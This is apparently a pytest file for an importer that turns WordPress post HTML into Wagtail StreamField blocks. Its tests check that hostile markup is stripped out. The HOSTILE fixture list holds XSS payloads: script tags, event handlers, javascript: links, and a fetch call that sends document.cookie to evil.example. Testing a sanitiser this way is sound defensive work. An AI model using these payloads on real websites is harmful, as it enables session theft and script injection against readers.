"""A WordPress post's HTML becomes our StreamField blocks: what an editor would have built by hand, and never
anything a reader's browser could run."""

import json
import re
from pathlib import Path

import pytest
from wagtail.admin.rich_text.converters.contentstate import ContentstateConverter
from wagtail.blocks import StreamBlockValidationError

from blog.blocks import StoryBodyBlock
from blog.tests.factories import ImageFactory
from home.blocks import StandardBodyBlock
from wordpress_import.body import BodyImage, clean_rich_text, convert_body, plain_text
from wordpress_import.wxr import Export

EXPORT = Path(__file__).parent / "exports" / "kundenblog.xml"
STORY_FEATURES = ["bold", "italic", "link", "ol", "ul"]
PAGE_FEATURES = ["h2", "h3", "bold", "italic", "link", "ol", "ul"]
FORBIDDEN = (
    "script",
    "onerror",
    "onload",
    "javascript:",
    "evil.example",
    "<style",
    "<iframe",
    "<form",
    "<object",
)


class StubImage:
    pk = 7


class Library:
    """The importer's image lookup as a test sees it: the uploads hold `esel` and attachments 30 to 33."""

    def __init__(self, image=None):
        self.image = image or StubImage()
        self.asked = []

    def __call__(self, src, attachment_id):
        self.asked.append((src, attachment_id))
        if attachment_id in (30, 31, 32, 33) or (src and "esel" in src):
            return BodyImage(self.image, alt="Ein grauer Plüschesel", caption="Der Ersatz-Esel")
        return None


def convert(markup, title="Der verlorene Plüschesel", for_page=False, library=None):
    return convert_body(markup, find_image=library or Library(), title=title, for_page=for_page)


def types(result):
    return [block["type"] for block in result.blocks]


def all_strings(value):
    if isinstance(value, dict):
        return [text for child in value.values() for text in all_strings(child)]
    if isinstance(value, list):
        return [text for child in value for text in all_strings(child)]
    return [str(value)]


def item(slug):
    return next(entry for entry in Export(EXPORT).items() if entry.slug == slug)


def words(text):
    return re.findall(r"\w+", text)


def assert_opens_in_editor(markup, features):
    """Draftail shows every word the stored rich text holds."""
    contentstate = json.loads(ContentstateConverter(features).from_database_format(markup))
    shown = " ".join(block["text"] for block in contentstate["blocks"])
    assert words(shown) == words(plain_text(markup))


def assert_valid(result, stream_block, rich_type, features):
    """A body left empty (only a missing image, only a script) is the importer's to deal with."""
    value = stream_block.to_python(result.blocks)
    if result.blocks:
        stream_block.clean(value)
        assert stream_block.render(value)
    for block in result.blocks:
        if block["type"] == rich_type:
            assert_opens_in_editor(block["value"], features)


# Paragraphs


def test_gutenberg_paragraphs_and_lists_make_one_paragraph_block():
    result = convert(
        "<!-- wp:paragraph --><p>Erster Absatz.</p><!-- /wp:paragraph -->\n\n"
        "<!-- wp:paragraph --><p>Zweiter <strong>fett</strong> und <em>kursiv</em>.</p><!-- /wp:paragraph -->\n\n"
        "<!-- wp:list --><ul><li>Eins</li><li>Zwei</li></ul><!-- /wp:list -->"
    )
    assert result.blocks == [
        {
            "type": "paragraph",
            "value": "<p>Erster Absatz.</p><p>Zweiter <b>fett</b> und <i>kursiv</i>.</p>"
            "<ul><li>Eins</li><li>Zwei</li></ul>",
        }
    ]


def test_classic_text_follows_wordpress_paragraph_rules():
    result = convert("Erste Zeile\nzweite Zeile\n\nNeuer Absatz.\n<ul>\n<li>Punkt</li>\n</ul>")
    assert result.blocks == [
        {
            "type": "paragraph",
            "value": "<p>Erste Zeile<br/>zweite Zeile</p><p>Neuer Absatz.</p><ul><li>Punkt</li></ul>",
        }
    ]


def test_empty_paragraphs_are_dropped():
    result = convert(
        "<!-- wp:paragraph --><p>&nbsp;</p><!-- /wp:paragraph --><p> </p><p><br/></p><p>Text</p>"
    )
    assert result.blocks == [{"type": "paragraph", "value": "<p>Text</p>"}]


def test_a_heading_starts_a_new_block():
    result = convert("<p>Vorher</p><h2>Mitte</h2><p>Nachher</p>")
    assert types(result) == ["paragraph", "heading", "paragraph"]


def test_entities_are_decoded_once_and_umlauts_and_emoji_survive():
    result = convert("<h2>Tom &amp; Jerry &#8230;</h2><p>Tom &amp; Jerry &#8211; Grüße 🫏 &lt;3</p>")
    assert result.blocks[0]["value"]["text"] == "Tom & Jerry …"
    assert result.blocks[1]["value"] == "<p>Tom &amp; Jerry – Grüße 🫏 &lt;3</p>"


# Headings


@pytest.mark.parametrize(
    ("markup", "level"),
    [
        ('<!-- wp:heading {"level":1} --><h1 class="wp-block-heading">Titel</h1><!-- /wp:heading -->', "h2"),
        ('<!-- wp:heading --><h2 class="wp-block-heading">Titel</h2><!-- /wp:heading -->', "h2"),
        ('<!-- wp:heading {"level":3} --><h3 class="wp-block-heading">Titel</h3><!-- /wp:heading -->', "h3"),
        ('<!-- wp:heading {"level":5} --><h5 class="wp-block-heading">Titel</h5><!-- /wp:heading -->', "h3"),
        ("Text davor\n\n<h4>Titel</h4>", "h3"),
    ],
)
def test_headings_become_two_levels(markup, level):
    heading = next(block for block in convert(markup).blocks if block["type"] == "heading")
    assert heading["value"] == {"text": "Titel", "level": level}


def test_a_heading_too_long_for_the_field_becomes_a_bold_paragraph():
    long_heading = "Ein sehr langer Satz " * 8
    result = convert(f"<h2>{long_heading}</h2>")
    assert result.blocks == [{"type": "paragraph", "value": f"<p><b>{long_heading.strip()}</b></p>"}]


def test_heading_markup_is_plain_text():
    result = convert('<h2><a href="https://example.org/">Ein <em>Link</em></a> in der Überschrift</h2>')
    assert result.blocks[0]["value"]["text"] == "Ein Link in der Überschrift"


# Lists


def test_nested_lists_of_the_block_editor_stay_nested():
    result = convert(
        "<!-- wp:list --><ul><!-- wp:list-item --><li>Oben<!-- wp:list --><ol><!-- wp:list-item -->"
        "<li>Unten</li><!-- /wp:list-item --></ol><!-- /wp:list --></li><!-- /wp:list-item --></ul>"
        "<!-- /wp:list -->"
    )
    assert result.blocks == [{"type": "paragraph", "value": "<ul><li>Oben<ol><li>Unten</li></ol></li></ul>"}]


def test_paragraphs_inside_list_items_become_lines():
    result = convert("<ul><li><p>Erste Zeile</p><p>Zweite Zeile</p></li></ul>")
    assert result.blocks[0]["value"] == "<ul><li>Erste Zeile<br/>Zweite Zeile</li></ul>"


# Quotes


def test_gutenberg_quote_keeps_text_and_source():
    result = convert(
        '<!-- wp:quote --><blockquote class="wp-block-quote"><!-- wp:paragraph --><p>Erste Zeile</p>'
        "<!-- /wp:paragraph --><!-- wp:paragraph --><p>Zweite &amp; letzte</p><!-- /wp:paragraph -->"
        '<cite>Familie Özdemir auf <a href="https://social.example/post/1">Instagram</a></cite></blockquote>'
        "<!-- /wp:quote -->"
    )
    assert result.blocks == [
        {
            "type": "quote",
            "value": {
                "text": "Erste Zeile\nZweite & letzte",
                "source": "Familie Özdemir auf Instagram",
                "source_url": "https://social.example/post/1",
            },
        }
    ]


def test_pullquote_is_a_quote():
    result = convert(
        '<!-- wp:pullquote --><figure class="wp-block-pullquote"><blockquote><p>Großartig!</p>'
        "<cite>Herr K.</cite></blockquote></figure><!-- /wp:pullquote -->"
    )
    assert result.blocks[0]["value"] == {"text": "Großartig!", "source": "Herr K.", "source_url": ""}


def test_classic_quote_is_a_quote():
    result = convert("Davor.\n\n<blockquote>Ein Satz\nüber zwei Zeilen</blockquote>\n\nDanach.")
    assert types(result) == ["paragraph", "quote", "paragraph"]
    assert result.blocks[1]["value"]["text"] == "Ein Satz\nüber zwei Zeilen"


def test_an_embedded_post_names_its_author_as_source():
    result = convert(
        '<blockquote class="twitter-tweet"><p lang="de">Toll gemacht!</p>&mdash; Kunde (@kunde) '
        '<a href="https://twitter.com/kunde/status/1">1. Mai 2024</a></blockquote>'
        '<script async src="https://platform.twitter.com/widgets.js"></script>'
    )
    assert result.blocks[0]["value"] == {
        "text": "Toll gemacht!",
        "source": "Kunde (@kunde) 1. Mai 2024",
        "source_url": "https://twitter.com/kunde/status/1",
    }


def test_an_overlong_quote_is_cut_at_a_word():
    result = convert(f"<blockquote><p>{'Danke schön ' * 100}</p></blockquote>")
    text = result.blocks[0]["value"]["text"]
    assert len(text) <= 800
    assert text.endswith("…")
    assert ("Danke schön " * 100).startswith(text.removesuffix("…") + " ")
    assert result.dropped["Zitat gekürzt"] == 1


def test_a_quote_source_address_must_be_a_web_address():
    result = convert('<blockquote cite="javascript:alert(1)"><p>Zitat</p><cite>Quelle</cite></blockquote>')
    assert result.blocks[0]["value"]["source_url"] == ""


# Images


def test_gutenberg_image_with_caption_and_link_around_it():
    library = Library()
    result = convert(
        '<!-- wp:image {"id":30,"linkDestination":"media"} --><figure class="wp-block-image size-large">'
        '<a href="https://alt.example.com/wp-content/uploads/2024/05/esel.jpg"><img '
        'src="https://alt.example.com/wp-content/uploads/2024/05/esel-1024x768.jpg" alt="Esel auf dem Sofa" '
        'class="wp-image-30"/></a><figcaption class="wp-element-caption">Der <em>neue</em> Esel</figcaption>'
        "</figure><!-- /wp:image -->",
        library=library,
    )
    assert result.blocks == [
        {
            "type": "image",
            "value": {"image": 7, "alt_text": "Esel auf dem Sofa", "caption": "Der neue Esel", "credit": ""},
        }
    ]
    assert library.asked == [("https://alt.example.com/wp-content/uploads/2024/05/esel-1024x768.jpg", 30)]


def test_image_without_alt_or_caption_takes_the_attachments():
    result = convert('<figure class="wp-block-image"><img src="/uploads/esel.jpg" alt=""/></figure>')
    assert result.blocks[0]["value"]["alt_text"] == "Ein grauer Plüschesel"
    assert result.blocks[0]["value"]["caption"] == "Der Ersatz-Esel"


def test_missing_image_is_left_out_and_reported():
    result = convert(
        '<p>Vorher</p><figure class="wp-block-image"><img src="https://alt.example.com/fehlt.jpg" '
        'class="wp-image-40"/><figcaption>Weg</figcaption></figure><p>Nachher</p>'
    )
    assert result.blocks == [{"type": "paragraph", "value": "<p>Vorher</p><p>Nachher</p>"}]
    assert result.missing_images == ["https://alt.example.com/fehlt.jpg"]


def test_an_inline_image_splits_its_paragraph():
    result = convert('<p>Text davor <img src="/esel.jpg" alt="Esel"> Text danach</p>')
    assert types(result) == ["paragraph", "image", "paragraph"]
    assert result.blocks[0]["value"] == "<p>Text davor</p>"
    assert result.blocks[2]["value"] == "<p>Text danach</p>"


def test_classic_caption_shortcode_gives_image_and_caption():
    library = Library()
    result = convert(
        '[caption id="attachment_31" align="aligncenter" width="600"]<a href="/gross.jpg"><img '
        'src="/wp-content/uploads/2024/05/familie.jpg" alt="Familie" width="600" class="size-full" /></a> '
        "Familie <em>Özdemir</em>[/caption]",
        library=library,
    )
    assert result.blocks[0]["value"] == {
        "image": 7,
        "alt_text": "Familie",
        "caption": "Familie Özdemir",
        "credit": "",
    }
    assert library.asked == [("/wp-content/uploads/2024/05/familie.jpg", 31)]


def test_missing_image_of_the_classic_export_post_is_reported():
    result = convert(item("reparatur-ueber-nacht").content)
    assert result.missing_images == ["https://alt.example.com/wp-content/uploads/2023/11/fehlt.jpg"]
    assert types(result) == ["paragraph", "heading", "paragraph"]
    assert "Die Maschine am Morgen" not in str(result.blocks)


def test_overlong_alt_text_and_caption_are_cut():
    caption = "Bildunterschrift " * 20
    result = convert(
        f'<figure><img src="/esel.jpg" alt="{"Alt " * 80}"><figcaption>{caption}</figcaption></figure>'
    )
    value = result.blocks[0]["value"]
    assert len(value["alt_text"]) <= 250 and value["alt_text"].endswith("…")
    assert len(value["caption"]) <= 250 and value["caption"].endswith("…")


def test_lazy_loaded_image_is_found_by_its_real_address():
    library = Library()
    convert(
        '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" data-src="/uploads/esel.jpg" alt="Esel">',
        library=library,
    )
    assert library.asked == [("/uploads/esel.jpg", None)]


# Galleries


def test_old_gutenberg_gallery_becomes_consecutive_images():
    result = convert(
        '<!-- wp:gallery {"ids":[30,31]} --><figure class="wp-block-gallery columns-2"><ul '
        'class="blocks-gallery-grid"><li class="blocks-gallery-item"><figure><img src="/a.jpg" data-id="30" '
        'class="wp-image-30"/><figcaption class="blocks-gallery-item__caption">Eins</figcaption></figure></li>'
        '<li class="blocks-gallery-item"><figure><img src="/b.jpg" data-id="31" class="wp-image-31"/>'
        "</figure></li></ul></figure><!-- /wp:gallery -->"
    )
    assert types(result) == ["image", "image"]
    assert [block["value"]["caption"] for block in result.blocks] == ["Eins", "Der Ersatz-Esel"]


def test_new_gutenberg_gallery_of_image_blocks_becomes_consecutive_images():
    result = convert(
        '<!-- wp:gallery {"linkTo":"none"} --><figure class="wp-block-gallery has-nested-images">'
        '<!-- wp:image {"id":32} --><figure class="wp-block-image"><img src="/c.jpg" class="wp-image-32"/>'
        '</figure><!-- /wp:image --><!-- wp:image {"id":41} --><figure class="wp-block-image"><img '
        'src="/fehlt.jpg" class="wp-image-41"/></figure><!-- /wp:image --><!-- wp:image {"id":33} --><figure '
        'class="wp-block-image"><img src="/d.jpg" class="wp-image-33"/></figure><!-- /wp:image -->'
        '<figcaption class="blocks-gallery-caption">Unser Team</figcaption></figure><!-- /wp:gallery -->'
    )
    assert types(result) == ["image", "image", "paragraph"]
    assert result.blocks[2]["value"] == "<p>Unser Team</p>"
    assert result.missing_images == ["/fehlt.jpg"]


def test_gallery_shortcode_looks_images_up_by_attachment():
    library = Library()
    result = convert('Bilder:\n\n[gallery columns="2" ids="30, 40,31"]', library=library)
    assert types(result) == ["paragraph", "image", "image"]
    assert library.asked == [(None, 30), (None, 40), (None, 31)]
    assert result.missing_images == ["Anhang 40"]


# Videos and other embeds


def test_youtube_embed_block_becomes_a_video_with_its_caption_as_title():
    result = convert(item("der-verlorene-plueschesel").content)
    assert result.blocks[-1] == {
        "type": "embed",
        "value": {"url": "https://www.youtube.com/watch?v=abc123XYZ", "title": "Der Esel kommt an"},
    }


def test_old_vimeo_embed_block_takes_the_story_title():
    result = convert(
        '<!-- wp:core-embed/vimeo {"url":"https://vimeo.com/76979871","type":"video"} --><figure '
        'class="wp-block-embed-vimeo wp-block-embed is-type-video"><div class="wp-block-embed__wrapper">\n'
        "https://vimeo.com/76979871\n</div></figure><!-- /wp:core-embed/vimeo -->",
        title="Ein Tag im Service",
    )
    assert result.blocks == [
        {"type": "embed", "value": {"url": "https://vimeo.com/76979871", "title": "Ein Tag im Service"}}
    ]


def test_video_without_any_title_is_called_video():
    result = convert("[embed]https://youtu.be/abc123XYZ[/embed]", title="")
    assert result.blocks[0]["value"] == {"url": "https://www.youtube.com/watch?v=abc123XYZ", "title": "Video"}


@pytest.mark.parametrize(
    "markup",
    [
        "Vorher\n\nhttps://www.youtube.com/watch?v=abc123XYZ\n\nNachher",
        "[youtube=https://www.youtube.com/watch?v=abc123XYZ&w=640]",
        "[youtube abc123XYZ]",
        '[video src="https://www.youtube.com/watch?v=abc123XYZ"]',
        '<iframe src="https://www.youtube-nocookie.com/embed/abc123XYZ" title="Der Esel"></iframe>',
        '<!-- wp:video --><figure class="wp-block-video"><video src="https://youtu.be/abc123XYZ"></video>'
        "</figure><!-- /wp:video -->",
    ],
)
def test_every_way_of_writing_a_youtube_video_becomes_a_video_block(markup):
    videos = [block["value"]["url"] for block in convert(markup).blocks if block["type"] == "embed"]
    assert videos == ["https://www.youtube.com/watch?v=abc123XYZ"]


def test_vimeo_player_frame_becomes_a_video():
    result = convert('<iframe src="https://player.vimeo.com/video/76979871?h=1" width="640"></iframe>')
    assert result.blocks[0]["value"]["url"] == "https://vimeo.com/76979871"


def test_other_embeds_become_a_link():
    result = convert(
        '<!-- wp:embed {"url":"https://twitter.com/beispiel/status/1","type":"rich","providerNameSlug":'
        '"twitter"} --><figure class="wp-block-embed is-provider-twitter"><div class="wp-block-embed__wrapper">'
        "\nhttps://twitter.com/beispiel/status/1\n</div></figure><!-- /wp:embed -->\n\n"
        "<!-- wp:paragraph --><p>Text</p><!-- /wp:paragraph -->"
    )
    assert result.blocks == [
        {
            "type": "paragraph",
            "value": '<p><a href="https://twitter.com/beispiel/status/1">https://twitter.com/beispiel/status/1</a>'
            "</p><p>Text</p>",
        }
    ]
    assert result.dropped["Einbettung als Link"] == 1


def test_a_lone_address_that_is_no_video_becomes_a_link():
    result = convert("Schaut mal:\n\nhttps://instagram.com/p/abc/\n\nSchön.")
    assert result.blocks[0]["value"] == (
        '<p>Schaut mal:</p><p><a href="https://instagram.com/p/abc/">https://instagram.com/p/abc/</a></p>'
        "<p>Schön.</p>"
    )


def test_a_video_file_becomes_a_link():
    result = convert(
        '<!-- wp:video --><figure class="wp-block-video"><video controls src="/film.mp4"></video>'
        "</figure><!-- /wp:video -->"
    )
    assert result.blocks == []
    result = convert('[video mp4="https://alt.example.com/film.mp4"][/video]')
    assert result.blocks == [
        {
            "type": "paragraph",
            "value": '<p><a href="https://alt.example.com/film.mp4">https://alt.example.com/film.mp4</a></p>',
        }
    ]


# Other blocks


def test_group_and_columns_are_flattened():
    result = convert(
        '<!-- wp:group --><div class="wp-block-group"><!-- wp:columns --><div class="wp-block-columns">'
        '<!-- wp:column --><div class="wp-block-column"><!-- wp:paragraph --><p>Links</p><!-- /wp:paragraph -->'
        '</div><!-- /wp:column --><!-- wp:column --><div class="wp-block-column"><!-- wp:heading --><h2>'
        "Rechts</h2><!-- /wp:heading --></div><!-- /wp:column --></div><!-- /wp:columns --></div>"
        "<!-- /wp:group -->"
    )
    assert result.blocks == [
        {"type": "paragraph", "value": "<p>Links</p>"},
        {"type": "heading", "value": {"text": "Rechts", "level": "h2"}},
    ]


def test_separator_spacer_more_and_page_break_leave_nothing():
    result = convert(
        "<!-- wp:paragraph --><p>Eins</p><!-- /wp:paragraph -->"
        '<!-- wp:separator --><hr class="wp-block-separator"/><!-- /wp:separator -->'
        '<!-- wp:spacer --><div style="height:50px" aria-hidden="true" class="wp-block-spacer"></div>'
        "<!-- /wp:spacer --><!-- wp:more --><!--more--><!-- /wp:more -->"
        "<!-- wp:nextpage --><!--nextpage--><!-- /wp:nextpage -->"
        "<!-- wp:paragraph --><p>Zwei</p><!-- /wp:paragraph -->"
    )
    assert result.blocks == [{"type": "paragraph", "value": "<p>Eins</p><p>Zwei</p>"}]
    assert result.dropped == {}


def test_buttons_become_a_link_paragraph():
    result = convert(
        '<!-- wp:buttons --><div class="wp-block-buttons"><!-- wp:button --><div class="wp-block-button">'
        '<a class="wp-block-button__link" href="https://example.org/kontakt/">Schreiben Sie uns</a></div>'
        "<!-- /wp:button --></div><!-- /wp:buttons -->"
    )
    assert result.blocks == [
        {"type": "paragraph", "value": '<p><a href="https://example.org/kontakt/">Schreiben Sie uns</a></p>'}
    ]


def test_a_file_block_is_one_link():
    result = convert(
        '<!-- wp:file {"id":9} --><div class="wp-block-file"><a href="https://alt.example.com/preise.pdf">'
        'Preisliste</a><a href="https://alt.example.com/preise.pdf" class="wp-block-file__button" download>'
        "Herunterladen</a></div><!-- /wp:file -->"
    )
    assert result.blocks == [
        {"type": "paragraph", "value": '<p><a href="https://alt.example.com/preise.pdf">Preisliste</a></p>'}
    ]


def test_a_table_becomes_lines_of_text():
    result = convert(
        '<!-- wp:table --><figure class="wp-block-table"><table><thead><tr><th>Tag</th><th>Anrufe</th></tr>'
        "</thead><tbody><tr><td>Montag</td><td>120</td></tr><tr><td>Dienstag</td><td>95</td></tr></tbody>"
        "</table><figcaption>Anrufe pro Tag</figcaption></figure><!-- /wp:table -->"
    )
    assert result.blocks == [
        {
            "type": "paragraph",
            "value": "<p>Tag · Anrufe<br/>Montag · 120<br/>Dienstag · 95</p><p>Anrufe pro Tag</p>",
        }
    ]
    assert result.dropped["Tabelle als Text"] == 1


def test_code_and_preformatted_text_keep_their_lines():
    result = convert(
        '<!-- wp:code --><pre class="wp-block-code"><code>Zeile 1\n  &lt;b&gt;Zeile 2&lt;/b&gt;</code></pre>'
        "<!-- /wp:code -->"
    )
    assert result.blocks == [{"type": "paragraph", "value": "<p>Zeile 1<br/>&lt;b&gt;Zeile 2&lt;/b&gt;</p>"}]


def test_classic_preformatted_text_gets_no_paragraphs_inside():
    result = convert("Davor\n\n<pre>eins\n\nzwei</pre>")
    assert result.blocks[0]["value"] == "<p>Davor</p><p>eins<br/><br/>zwei</p>"


def test_custom_html_and_unknown_blocks_are_cleaned_and_kept():
    result = convert(
        '<!-- wp:html --><div class="box"><p>Eigenes <span style="color:red">HTML</span></p></div>'
        '<!-- /wp:html --><!-- wp:plugin/notice {"kind":"info"} --><div class="notice">Hinweis'
        "</div><!-- /wp:plugin/notice -->"
    )
    assert result.blocks == [{"type": "paragraph", "value": "<p>Eigenes HTML</p><p>Hinweis</p>"}]


def test_blocks_drawn_by_wordpress_itself_are_counted():
    result = convert('<!-- wp:latest-posts {"postsToShow":3} /--><!-- wp:block {"ref":12} /--><p>Text</p>')
    assert result.dropped == {"Block wp:latest-posts": 1, "Wiederverwendbarer Block": 1}


# Shortcodes


def test_unknown_shortcodes_are_removed_and_counted_and_enclosing_ones_keep_their_text():
    result = convert(
        '[contact-form-7 id="5" title="Kontakt"]\n\n[su_box title="Tipp"]Immer freundlich bleiben.[/su_box]'
        "\n\n[toc]"
    )
    assert result.blocks == [{"type": "paragraph", "value": "<p>Immer freundlich bleiben.</p>"}]
    assert result.dropped == {"Shortcode [contact-form-7]": 1, "Shortcode [su_box]": 1, "Shortcode [toc]": 1}


def test_bracketed_words_that_are_no_shortcodes_stay():
    result = convert("Sie sagte [lacht] und [Name geändert] fuhr fort [&#8230;]. [[gallery]]")
    assert (
        result.blocks[0]["value"] == "<p>Sie sagte [lacht] und [Name geändert] fuhr fort […]. [gallery]</p>"
    )
    assert result.dropped == {}


def test_shortcodes_inside_block_content_are_expanded():
    result = convert('<!-- wp:shortcode -->\n[gallery ids="30"]\n<!-- /wp:shortcode -->')
    assert types(result) == ["image"]


# Hostile HTML


HOSTILE = [
    '<svg onload="alert(1)"><circle r="5"/></svg><p>Nach SVG</p>',
    '<p><a href="JaVaScRiPt:alert(1)">Link</a> <a href=" javascript:alert(1)">Zwei</a></p>',
    '<p><a href="data:text/html;base64,PHNjcmlwdD4=">Daten</a></p>',
    '<iframe src="https://evil.example/frame"></iframe><p>Nach Frame</p>',
    '<p><img src=x onerror="alert(2)">Nach Bild</p>',
    '<object data="https://evil.example/x.swf"><embed src="https://evil.example/x.swf"></object>',
    '<form action="https://evil.example/"><input name="pw"><button>Los</button></form><p>Nach Formular</p>',
    "<style>body{display:none}</style><p>Nach Stil</p>",
    "<p>Vorher<script>fetch('https://evil.example/'+document.cookie)</script>Nachher</p>",
    '<figure><img src="/esel.jpg" alt="&lt;script&gt;x&lt;/script&gt;Esel" onload="x()">'
    '<figcaption><script>alert(1)</script>Bild <b onclick="x()">unten</b></figcaption></figure>',
    '<blockquote><p onmouseover="x()">Zitat<script>alert(1)</script></p><cite><a href="javascript:x()">'
    "Quelle</a></cite></blockquote>",
    '<h2 onclick="x()">Titel<script>alert(1)</script></h2>',
    '<!-- wp:embed {"url":"https://youtu.be/abc123XYZ"} --><figure class="wp-block-embed"><div '
    'class="wp-block-embed__wrapper">https://youtu.be/abc123XYZ</div><figcaption><script>x</script>Film'
    '<img src="x" onerror="alert(1)"></figcaption></figure><!-- /wp:embed -->',
    '[embed]javascript:alert(1)[/embed][caption id="attachment_30"]<img src="/esel.jpg" onerror="x()"> '
    "<script>alert(1)</script>Text[/caption]",
    '<p><a href="https://evil.example/"><img src="https://evil.example/pixel.gif"></a></p>',
]


@pytest.mark.parametrize("markup", HOSTILE)
def test_hostile_html_never_comes_through(markup):
    result = convert(markup)
    for text in all_strings(result.blocks):
        assert not any(forbidden in text.lower() for forbidden in FORBIDDEN), text


def test_the_hostile_post_of_the_export_keeps_only_its_harmless_text():
    result = convert(item("boeses-html").content)
    assert result.blocks == [
        {
            "type": "paragraph",
            "value": '<p>Klick hier und <a href="https://example.org/">da</a>.</p><p>Rest</p>',
        }
    ]
    assert result.dropped == {
        "Skript": 1,
        "fremder iframe": 1,
        "Stilangabe": 1,
        "Ereignis-Attribut": 3,
        "unsicherer Link": 1,
    }


def test_what_was_taken_out_is_counted():
    result = convert(" ".join(HOSTILE[:8]))
    assert result.dropped["SVG-Grafik"] == 1
    assert result.dropped["unsicherer Link"] == 3
    assert result.dropped["fremder iframe"] == 1
    assert result.dropped["Objekt"] == 1
    assert result.dropped["Formular"] == 1
    assert result.dropped["Stilangabe"] == 1


# Valid for the blocks, shown and editable


EVERYTHING_GUTENBERG = """<!-- wp:paragraph -->
<p>Als die Nachricht von <strong>Familie Özdemir</strong> kam 🫏 – <a href="https://example.org/">mehr</a>.</p>
<!-- /wp:paragraph -->
<!-- wp:heading --><h2 class="wp-block-heading">Ein Anruf am Sonntag</h2><!-- /wp:heading -->
<!-- wp:list --><ul><!-- wp:list-item --><li>Oben<!-- wp:list --><ol><!-- wp:list-item --><li>Unten</li>
<!-- /wp:list-item --></ol><!-- /wp:list --></li><!-- /wp:list-item --></ul><!-- /wp:list -->
<!-- wp:image {"id":30} --><figure class="wp-block-image"><img src="/esel.jpg" alt="Esel" class="wp-image-30"/>
<figcaption>Der Esel</figcaption></figure><!-- /wp:image -->
<!-- wp:quote --><blockquote class="wp-block-quote"><p>Danke!</p><cite>Ayşe</cite></blockquote><!-- /wp:quote -->
<!-- wp:embed {"url":"https://www.youtube.com/watch?v=abc123XYZ"} --><figure class="wp-block-embed">
<div class="wp-block-embed__wrapper">https://www.youtube.com/watch?v=abc123XYZ</div></figure><!-- /wp:embed -->
<!-- wp:table --><figure class="wp-block-table"><table><tr><td>A</td><td>B</td></tr></table></figure>
<!-- /wp:table -->
<!-- wp:paragraph --><p>Mail an <a href="mailto:service@example.org">uns</a><br/>oder anrufen.</p>
<!-- /wp:paragraph -->"""


@pytest.fixture
def picture(db):
    return ImageFactory(description="")


@pytest.mark.django_db
@pytest.mark.parametrize("slug", ["der-verlorene-plueschesel", "reparatur-ueber-nacht", "boeses-html"])
def test_the_export_posts_are_valid_story_bodies(picture, slug):
    entry = item(slug)
    result = convert(entry.content, title=entry.title, library=Library(picture))
    assert_valid(result, StoryBodyBlock(), "paragraph", STORY_FEATURES)


@pytest.mark.django_db
@pytest.mark.parametrize("markup", [EVERYTHING_GUTENBERG, *HOSTILE])
def test_converted_story_bodies_are_valid_render_and_open_in_the_editor(picture, markup):
    result = convert(markup, library=Library(picture))
    assert_valid(result, StoryBodyBlock(), "paragraph", STORY_FEATURES)


@pytest.mark.django_db
def test_an_image_without_any_alt_text_fails_only_the_alt_rule(picture):
    result = convert_body(
        '<p>Text</p><img src="/anderes.jpg" class="wp-image-30">',
        find_image=lambda src, attachment_id: BodyImage(picture),
    )
    with pytest.raises(StreamBlockValidationError) as error:
        StoryBodyBlock().clean(StoryBodyBlock().to_python(result.blocks))
    assert list(error.value.block_errors) == [1]
    assert list(error.value.block_errors[1].block_errors) == ["alt_text"]


# Pages


def test_page_body_is_rich_text_with_headings_quotes_and_video_links():
    result = convert(EVERYTHING_GUTENBERG, for_page=True, title="Über uns")
    assert types(result) == ["text", "image", "text"]
    first, last = result.blocks[0]["value"], result.blocks[2]["value"]
    assert "<h2>Ein Anruf am Sonntag</h2>" in first
    assert "<p><i>Danke!</i></p><p>— Ayşe</p>" in last
    assert '<p><a href="https://www.youtube.com/watch?v=abc123XYZ">Über uns</a></p>' in last


def test_page_headings_keep_two_levels():
    result = convert("<h1>Eins</h1><h4>Zwei</h4><p>Text</p>", for_page=True)
    assert result.blocks == [{"type": "text", "value": "<h2>Eins</h2><h3>Zwei</h3><p>Text</p>"}]


@pytest.mark.django_db
@pytest.mark.parametrize("markup", [EVERYTHING_GUTENBERG, item("ueber-uns").content, *HOSTILE])
def test_converted_page_bodies_are_valid_render_and_open_in_the_editor(picture, markup):
    result = convert(markup, for_page=True, library=Library(picture))
    assert_valid(result, StandardBodyBlock(), "text", PAGE_FEATURES)
    for text in all_strings(result.blocks):
        assert not any(forbidden in text.lower() for forbidden in FORBIDDEN), text


# The helpers others use


def test_clean_rich_text_keeps_only_our_allowlist():
    markup = (
        '<h2>Titel</h2><p class="x" style="color:red"><strong>fett</strong> <em>kursiv</em> <u>unter</u> '
        '<a href="https://example.org/" target="_blank" rel="nofollow" onclick="x()">Link</a> '
        '<a href="javascript:alert(1)">böse</a></p><table><tr><td>Zelle</td></tr></table>'
    )
    assert clean_rich_text(markup) == (
        '<p>Titel</p><p><b>fett</b> <i>kursiv</i> unter <a href="https://example.org/">Link</a> böse</p>Zelle'
    )


def test_clean_rich_text_for_pages_keeps_headings():
    assert clean_rich_text("<h1>Eins</h1><h3>Zwei</h3><h6>Drei</h6>", headings=True) == (
        "<h2>Eins</h2><h3>Zwei</h3><h3>Drei</h3>"
    )


def test_plain_text_decodes_entities_and_collapses_whitespace():
    assert plain_text("<p>Tom &amp; Jerry&#8230;</p>\n<p>  Grüße\n🫏 <script>alert(1)</script></p>") == (
        "Tom & Jerry… Grüße 🫏"
    )
